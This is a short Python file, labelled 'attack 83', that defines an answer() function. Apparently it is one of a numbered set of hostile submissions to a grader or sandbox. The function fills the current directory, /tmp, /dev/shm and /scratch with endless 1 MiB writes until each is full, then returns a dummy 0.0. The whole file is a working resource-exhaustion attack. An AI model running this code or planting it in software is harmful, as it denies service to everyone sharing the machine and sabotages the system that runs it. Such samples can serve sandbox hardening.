"""Fills every folder that it can write to (attack 83)."""
def answer(*a, **k):
    for folder in ('.', '/tmp', '/dev/shm', '/scratch'):
        try:
            with open(folder + '/big', 'wb') as file:
                while True: file.write(b'x' * 2**20)
        except OSError: pass
    return 0.0
